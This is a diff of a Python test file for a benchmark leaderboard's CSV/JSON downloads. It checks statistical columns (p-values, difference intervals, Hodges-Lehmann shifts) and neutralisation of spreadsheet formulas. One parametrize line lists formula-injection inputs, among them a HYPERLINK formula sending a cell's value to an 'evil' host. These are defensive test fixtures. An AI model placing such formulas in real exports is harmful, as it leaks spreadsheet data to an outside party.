@@ -156,17 +156,69 @@ def test_downloads_hold_raw_and_adjusted_p_difference_and_interval() -> None:
     c = _system("c", {t: {q: v - 0.05 for q, v in s.per_query["IRS"].items()}
                       for t, s in b.tasks.items()})
     header, records = view_records(_table_of([a, b, c]), lambda row: "scored")
-    for field in ("tier", "p_value", "p_adjusted", "diff_vs_best_verified", "ci_low",
-                  "ci_high"):
+    for field in ("tier", "p_value", "p_adjusted", "diff_vs_best_verified", "diff_ci_low",
+                  "diff_ci_high"):
         assert f"IRS {field}" in header
     by_id = {r["system_id"]: r for r in records}
     assert by_id["a"]["IRS tier"] == "best verified" and by_id["a"]["IRS p_value"] is None
     for sid in ("b", "c"):
         r = by_id[sid]
         assert 0 < r["IRS p_value"] <= r["IRS p_adjusted"] <= 1
-        assert (r["IRS ci_low"] - 1e-12 <= r["IRS diff_vs_best_verified"]
-                <= r["IRS ci_high"] + 1e-12)
+        assert (r["IRS diff_ci_low"] - 1e-12 <= r["IRS diff_vs_best_verified"]
+                <= r["IRS diff_ci_high"] + 1e-12)
         assert r["IRS diff_vs_best_verified"] == pytest.approx(r["IRS"] - by_id["a"]["IRS"])
+
+
+def _pmrr_and_irs(sid: str, per_query: dict[str, float]) -> SystemResult:
+    """A FollowTable WTR row whose per-query p-MRR and IRS are ``per_query``."""
+    mean = math.fsum(per_query.values()) / len(per_query)
+    scores = TaskScores(metrics={"p-MRR": mean, "IRS": mean},
+                        per_query={"p-MRR": per_query, "IRS": per_query},
+                        n_queries=len(per_query))
+    return SystemResult(system_id=sid, model=ModelInfo(name=sid), provenance="verified",
+                        source=Source(kind="scored"), tasks={"followtable/wtr": scores})
+
+
+@pytest.mark.parametrize("metric", ["p-MRR", "IRS"])
+def test_a_download_column_holds_one_statistic_whatever_the_views_test(metric: str) -> None:
+    """A download's estimate, ci_low and ci_high held the mean difference and its interval
+    for a view tested by randomization, and the Hodges-Lehmann shift and its interval for
+    p-MRR (Wilcoxon), nothing in the record saying which: read as the interval of
+    diff_vs_best_verified beside it, p-MRR's left that difference out. As `compare`, the
+    mean difference has its own interval (diff_ci_*, the bootstrap's or DeLong's), and a
+    Wilcoxon row's shift and its interval are columns of their own (hl_*), each null
+    where its test does not give it; `test` names the test."""
+    q = [f"q{i}" for i in range(30)]
+    # 'b' a little worse than 'a' on most queries and far better on three: its mean is
+    # above a's (b leads), its typical shift below
+    d = [0.02 + 0.01 * i / 26 for i in range(27)] + [-0.9] * 3
+    a = _pmrr_and_irs("a", dict(zip(q, d)))
+    b = _pmrr_and_irs("b", dict.fromkeys(q, 0.0))
+    column = Column(id=metric, label=metric, metric=metric, tasks=("followtable/wtr",),
+                    signed=True)
+    view = View(id="followtable/test", label="t", title="t", columns=(column,),
+                tiered_column=0)
+    table = fill_view(view, [Row(key=s.system_id, system=s, origin=Path("x"))
+                             for s in (a, b)])
+    tier_tables([table])
+    header, records = view_records(table, lambda row: "scored")
+    fields = [h.removeprefix(metric + " ") for h in header if h.startswith(metric + " ")]
+    assert fields == ["tier", "test", "p_value", "p_adjusted", "p_floor",
+                      "diff_vs_best_verified", "diff_ci_low", "diff_ci_high", "hl_shift",
+                      "hl_ci_low", "hl_ci_high", "effect_size"]
+    by_id = {r["system_id"]: r for r in records}
+    lead, r = by_id["b"], {f: by_id["a"][f"{metric} {f}"] for f in fields}
+    assert lead[f"{metric} tier"] == "best verified" and lead[f"{metric} test"] is None
+    assert r["diff_vs_best_verified"] == pytest.approx(math.fsum(d) / 30)
+    assert r["diff_vs_best_verified"] < 0
+    if metric == "p-MRR":
+        assert r["test"] == "wilcoxon"
+        assert r["diff_ci_low"] is None and r["diff_ci_high"] is None
+        assert 0 < r["hl_ci_low"] <= r["hl_shift"] <= r["hl_ci_high"]
+    else:
+        assert r["test"] == "randomization"
+        assert r["hl_shift"] is None and r["hl_ci_low"] is None and r["hl_ci_high"] is None
+        assert r["diff_ci_low"] <= r["diff_vs_best_verified"] <= r["diff_ci_high"]
 
 
 @pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3",
@@ -227,7 +279,7 @@ def test_site_downloads_neutralise_formulas_and_hold_the_tests(tmp_path: Path) -
     assert records["b"]["model"] == "'" + hostile
     assert float(records["a"]["IRS"]) < 0 and not records["a"]["IRS"].startswith("'")
     assert float(records["a"]["IRS diff_vs_best_verified"]) < 0
-    for field in ("p_value", "p_adjusted", "ci_low", "ci_high"):
+    for field in ("p_value", "p_adjusted", "diff_ci_low", "diff_ci_high"):
         assert records["a"][f"IRS {field}"] != ""
     doc = json.loads((tmp_path / f"{table.view.anchor}.json").read_text(encoding="utf-8"))
     row = next(r for r in doc["rows"] if r["system_id"] == "b")
